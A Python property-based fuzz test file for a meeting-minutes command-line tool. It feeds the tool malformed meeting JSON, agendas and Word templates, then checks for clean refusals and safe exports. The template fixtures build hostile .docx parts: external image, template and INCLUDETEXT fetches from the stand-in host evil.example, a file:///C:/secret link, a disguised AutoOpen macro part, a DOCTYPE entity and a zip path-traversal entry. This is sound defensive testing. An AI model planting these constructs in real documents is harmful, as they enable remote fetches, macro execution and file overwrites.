"""Hostile meeting files, agendas and templates, generated, through the command line's own ``main``.

For each: exit status 0 or 2, no traceback (nothing escapes ``main``), a refusal is one line on
stderr and leaves the store as it was, a success says nothing on stderr but warnings, and a
published export holds no outside link. ``main`` runs in this process (a subprocess per example
would take minutes); tests/core/test_cli.py and the other hostile tests run the same paths in real
subprocesses. The process's peak memory is checked at the end.
"""

from __future__ import annotations

import contextlib
import io
import json
import resource
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from clerkdesk.cli import main
from clerkdesk.export.word_template import default_template
from clerkdesk.sample import SAMPLE
from tests.core.test_cli import fingerprint

MEMORY_HEADROOM_MB = 500
FUZZ = settings(max_examples=40, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


def run(data_dir: Path, *args: str) -> tuple[int, str, str]:
    """The command line's exit status, stdout and stderr, run in this process."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(["--data-dir", str(data_dir), *args])
    return status, out.getvalue(), err.getvalue()


def check(data_dir: Path, *args: str) -> tuple[int, str]:
    """Run a command and hold it to the house rules; returns the status and stderr."""
    before = fingerprint(data_dir)
    status, _, err = run(data_dir, *args)
    lines = err.strip().splitlines()
    assert status in (0, 2), (status, err)
    assert "Traceback" not in err
    if status == 2:
        assert len(lines) == 1 and lines[0].startswith("clerkdesk: "), err
        assert fingerprint(data_dir) == before
    else:
        assert all(line.startswith("clerkdesk: warning: ") for line in lines), err
    event(f"{args[0]} exit {status}")
    return status, err


@pytest.fixture(scope="module")
def folder() -> Path:
    with tempfile.TemporaryDirectory(prefix="clerkdesk-fuzz-") as tmp:
        path = Path(tmp)
        (path / "data").mkdir()
        yield path


@pytest.fixture(scope="module", autouse=True)
def memory_stays_bounded():
    """Peak memory over the whole module, against where it started (ru_maxrss is in KiB on Linux)."""
    start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    if sys.platform.startswith("linux"):
        assert (peak - start) / 1024 < MEMORY_HEADROOM_MB


# -- meeting files -------------------------------------------------------------------------

HOSTILE_VALUES = st.one_of(
    st.sampled_from(["O’Neill ‮", "x" * 20000, "line\nbreak\r\u2028", "\x1b[31mred", "<w:t>&amp;", "{{minutes}}",
                     "💷€", "\ufeff\u200b", "\U0010ffff"]) | st.sampled_from([None, True, [], {}, "", " ", "\ud800", "a\udfffb", float("nan"), float("inf"), -1, 0,
                     10 ** 30, 2 ** 63, "25:99", "2026-02-30", "x" * 5000, "\x00\x0b\x1f", "{n}", "O’Neill ‮",
                     {"nested": [[[[[]]]]]}, ["list"], "9" * 400])
    | st.text(max_size=40) | st.integers() | st.floats(allow_nan=True),
)


def _paths(value: object, prefix: tuple = ()) -> list[tuple]:
    """Every path into the sample (keys and list indexes), to put a hostile value at."""
    found = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, prefix + (key,))
    elif isinstance(value, list):
        for n, child in enumerate(value):
            found += _paths(child, prefix + (n,))
    return found


SAMPLE_PATHS = _paths(SAMPLE)


@st.composite
def hostile_meeting_files(draw) -> bytes:
    data = json.loads(json.dumps(SAMPLE))
    for _ in range(draw(st.integers(0, 3))):
        path = draw(st.sampled_from(SAMPLE_PATHS))
        target = data
        try:
            for key in path[:-1]:
                target = target[key]
            if draw(st.booleans()) or not isinstance(target, dict):
                target[path[-1]] = draw(HOSTILE_VALUES)
            else:
                target[draw(st.sampled_from(["\ud800", "extra", "id", "kind", "for"]))] = draw(HOSTILE_VALUES)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change took this path away
    text = json.dumps(data, ensure_ascii=draw(st.booleans()), allow_nan=True)
    raw = text.encode("utf-8", "surrogatepass")
    if draw(st.booleans()):
        raw = draw(st.sampled_from([b"\xef\xbb\xbf", b"", b"\xff\xfe", b"   "])) + raw
    if draw(st.integers(0, 4)) == 0:
        raw = raw[: draw(st.integers(0, len(raw)))]
    return raw


@settings(FUZZ, max_examples=100)
@given(raw=hostile_meeting_files())
def test_hostile_meeting_files(folder: Path, raw: bytes) -> None:
    path = folder / "hostile.json"
    path.write_bytes(raw)
    status, _ = check(folder / "data", "import", str(path))
    if status == 0:  # what was imported can be exported in every format that needs no LibreOffice
        for fmt in ("text", "html", "json", "docx"):
            check(folder / "data", "export", "1", "--format", fmt, "--out", str(folder / f"out.{fmt}"))


# -- agendas -------------------------------------------------------------------------------

AGENDA_LINE = st.one_of(
    st.builds(lambda n, sep, title: f"{n}{sep} {title}", st.integers(-5, 300),
              st.sampled_from([".", ")", ":", "", "(a)", ".1", "a"]), st.text(max_size=60)),
    st.sampled_from(["PART 2 – NOT FOR PUBLICATION", "Part 1", "Exempt items", "(Pages 9 - 44)", "Page 3 of 9",
                     "Contact: Democratic Services", "Thursday 17 September 2026 at 6.30 pm", "Planning Committee",
                     "Venue: Town Hall", "Item 6", "(a)", "(ii)", "\x0c", "\x00", "\ud800", "\u2028", "\ufeff"]),
    st.text(max_size=200),
    st.builds(lambda s, k: s * k, st.text(min_size=1, max_size=5), st.integers(1000, 20000)),
)


@settings(FUZZ, max_examples=60)
@given(lines=st.lists(AGENDA_LINE, max_size=60), encoding=st.sampled_from(["utf-8", "utf-16", "cp1252", "utf-8-sig"]))
def test_hostile_text_agendas(folder: Path, lines: list[str], encoding: str) -> None:
    if len(lines) % 2:  # half the agendas start as a real one does, so that their items are read
        lines = ["Planning Committee", "1. Apologies for absence", *lines]
    path = folder / "agenda.txt"
    path.write_bytes("\n".join(lines).encode(encoding, "surrogatepass" if encoding.startswith("utf-8") else "replace"))
    check(folder / "data", "import-agenda", str(path), "--committee", "Planning Committee", "--date", "2026-10-01")


# -- templates -----------------------------------------------------------------------------

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"
HOUSE = {i.filename: zipfile.ZipFile(default_template()).read(i.filename)
         for i in zipfile.ZipFile(default_template()).infolist()}


def _rel(parts: dict[str, bytes], rels: str, kind: str, target: str, external: bool) -> str:
    rid = f"rIdF{len(parts.get(rels, b''))}"
    body = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                           b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    mode = ' TargetMode="External"' if external else ""
    parts[rels] = body.replace(b"</Relationships>", f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
                               "</Relationships>".encode())
    return rid


def _body(parts: dict[str, bytes], xml: str) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def _external_image(parts):
    rid = _rel(parts, "word/_rels/document.xml.rels", f"{R}/image", f"http://{EVIL}/i.png", True)
    _body(parts, f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="{R}" '
                 f'r:id="{rid}"/></v:shape></w:pict></w:r></w:p>')


def _external_link(parts):
    rid = _rel(parts, "word/_rels/document.xml.rels", f"{R}/hyperlink", "file:///C:/secret", True)
    _body(parts, f'<w:p><w:hyperlink xmlns:r="{R}" r:id="{rid}"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>')


def _attached_template(parts):
    rid = _rel(parts, "word/_rels/settings.xml.rels", f"{R}/attachedTemplate", f"https://{EVIL}/t.dotm", True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", f'<w:attachedTemplate xmlns:r="{R}" r:id="{rid}"/><w:zoom '.encode(), 1)


def _field(parts):
    _body(parts, f'<w:p><w:fldSimple w:instr=\'INCLUDETEXT "http://{EVIL}/x.docx"\'><w:r><w:t>t</w:t></w:r>'
                 "</w:fldSimple></w:p>")


def _macro_by_another_name(parts):
    _rel(parts, "word/_rels/document.xml.rels", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
         "fonts.dat", False)
    parts["word/fonts.dat"] = b"\xd0\xcf\x11\xe0 Sub AutoOpen()"


def _no_numbering(parts):
    parts.pop("word/numbering.xml", None)


def _odd_numbering(parts):
    if "word/numbering.xml" not in parts:
        return
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(b'w:abstractNumId="0"', b'w:abstractNumId="a"') \
        .replace(b'w:numId="1"', b'w:numId="1&quot;]"')


def _broken_part(parts):
    parts["word/styles.xml"] = parts["word/styles.xml"][:500]


def _dangling_rel(parts):
    _rel(parts, "word/_rels/document.xml.rels", f"{R}/image", "media/missing.png", False)


def _doctype(parts):
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e "e">]>', 1)


def _no_rels(parts):
    parts.pop("word/_rels/document.xml.rels", None)


def _orphans(parts):
    parts["word/orphan.bin"] = b"\x00" * 100
    parts["unexpected/../../evil.xml"] = b"<x/>"


HOSTILITIES = [_external_image, _external_link, _attached_template, _field, _macro_by_another_name, _no_numbering,
               _odd_numbering, _broken_part, _dangling_rel, _doctype, _no_rels, _orphans]


@pytest.fixture(scope="module")
def sample_in(folder: Path) -> str:
    status, out, err = run(folder / "data", "sample")
    assert status == 0, err
    return out.strip()


@settings(FUZZ, max_examples=40)
@given(changes=st.lists(st.sampled_from(HOSTILITIES), min_size=1, max_size=4, unique=True))
def test_hostile_templates(folder: Path, sample_in: str, changes: list) -> None:
    parts = dict(HOUSE)
    for change in changes:
        change(parts)
    template = folder / "hostile.docx"
    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    out = folder / "minutes.docx"
    out.unlink(missing_ok=True)
    status, _ = check(folder / "data", "export", sample_in, "--format", "docx", "--template", str(template),
                      "--out", str(out))
    if status == 0:
        with zipfile.ZipFile(out) as z:
            everything = b"".join(z.read(n) for n in z.namelist())
        assert EVIL.encode() not in everything and b'TargetMode="External"' not in everything
        assert b"AutoOpen" not in everything and b"file:///" not in everything
    else:
        assert not out.exists()
